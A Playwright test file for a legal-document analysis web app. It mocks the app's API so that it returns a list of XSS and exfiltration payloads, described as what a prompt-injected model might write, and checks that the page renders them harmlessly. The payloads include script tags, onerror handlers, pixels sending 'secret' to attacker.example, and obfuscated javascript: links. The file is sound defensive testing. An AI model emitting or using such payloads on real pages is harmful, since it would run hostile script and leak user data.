import { analyze, NDA, openForm } from './analysis-steps.ts';
import { expect, test } from './fixtures.ts';

const AWAY = 'https://attacker.example';

/** What a model may write after a document told it to. Each line stands for a way to run code or to call home. */
const ATTACKS = [
  `<script>window.wasAttacked = 'script'</script>`,
  `<script src="${AWAY}/a.js"></script>`,
  `<img src="${AWAY}/pixel.png?d=secret" onerror="window.wasAttacked = 'img'">`,
  `![a picture](${AWAY}/pixel.png)`,
  `![by reference][pixel]`,
  `<svg onload="window.wasAttacked = 'svg'"><use href="${AWAY}/a.svg#x"/></svg>`,
  `<iframe src="${AWAY}/frame"></iframe><object data="${AWAY}/o"></object><embed src="${AWAY}/e">`,
  `<link rel="stylesheet" href="${AWAY}/a.css"><style>@import url(${AWAY}/b.css); body { display: none }</style>`,
  `<form action="${AWAY}"><input autofocus onfocus="window.wasAttacked = 'focus'"><button>Continue</button></form>`,
  `<video src="${AWAY}/v.mp4" autoplay></video><audio src="${AWAY}/a.mp3" autoplay></audio>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}"><base href="${AWAY}">`,
  `<details open ontoggle="window.wasAttacked = 'toggle'"><summary>more</summary></details>`,
  `[trap 1](javascript:window.wasAttacked='link')`,
  `[trap 2](JaVaScRiPt&#58;window.wasAttacked='link')`,
  `[trap 3](data:text/html,<script>window.wasAttacked='data'</script>)`,
  `[trap 4](vbscript:x)`,
  `[trap 5](java\tscript:window.wasAttacked='tab')`,
  `[trap 6]( javascript:window.wasAttacked='space')`,
  `[trap 7](//attacker.example/path)`,
  `<javascript:window.wasAttacked='auto'>`,
  `\`<script>window.wasAttacked = 'code'</script>\``,
  `[pixel]: ${AWAY}/pixel.png`,
].join('\n\n');

const SECTIONS = ['Key Information', 'Risks or Red Flags', `<img src=${AWAY}/t.png onerror=alert(1)>`];
const HOSTILE = SECTIONS.map((title, index) => `### ${index + 1}. ${title}\n\n${ATTACKS}`).join('\n\n');

test('shows what a hostile answer says without running it or calling anyone', async ({ page, baseURL }) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (/^(?:https?|wss?):$/.test(protocol) && origin !== baseURL) foreign.push(request.url());
  });
  const opened: string[] = [];
  page.context().on('page', (popup) => opened.push(popup.url()));
  page.on('dialog', (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  const hostile = `<img src="${AWAY}/n.png" onerror="window.wasAttacked = 'field'">`;
  await page.route('**/api/analyze', (route) =>
    route.fulfill({
      json: {
        analysis: `${ATTACKS}\n\n${HOSTILE}\n\n(§1, p. 1)`,
        notices: [{ code: 'comments', text: hostile, pages: [] }],
        paragraphs: [{ id: 1, page: 1, clause: hostile, text: hostile }],
        findings: [{ section: 2, severity: 'high', title: hostile, citations: ['c1'] }],
        citations: [{ id: 'c1', section: 3, quote: hostile, page: 1, paragraph: 1, status: 'exact' }],
      },
    }),
  );
  await openForm(page, 'hostile@example.com', hostile);
  await analyze(page, NDA);
  await expect(page.getByRole('heading', { name: 'Legal Document Analysis' })).toBeVisible({
    timeout: 30_000,
  });

  const main = page.getByRole('main');
  for (const trigger of (await main.locator('h3 button').all()).slice(1)) await trigger.click();
  await expect(main.locator('h3 [aria-expanded=true]')).toHaveCount(SECTIONS.length);
  await expect(main.getByText('trap 1').first()).toBeVisible();
  for (const trap of await main.getByText(/^trap \d$/).all()) await trap.click();
  await expect(
    main.locator('script, img, iframe, object, embed, link, style, form, input, video, audio, meta, base'),
  ).toHaveCount(0);
  const links = await main
    .locator('.prose a')
    .evaluateAll((all) => all.map((a) => (a instanceof HTMLAnchorElement ? a.protocol : '')));
  expect(links.filter((protocol) => !/^(?:https?|mailto):$/.test(protocol))).toEqual([]);
  await page.getByRole('button', { name: '§1, p. 1: show it in the document' }).first().click();
  await expect(page.getByRole('dialog')).toContainText(hostile);
  await page.keyboard.press('Escape');
  await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
  await expect(page.locator('.print-sheet')).toBeAttached();

  expect(await page.evaluate(() => ('wasAttacked' in window ? window.wasAttacked : null))).toBeNull();
  expect(foreign).toEqual([]);
  expect(opened).toEqual([]);
});
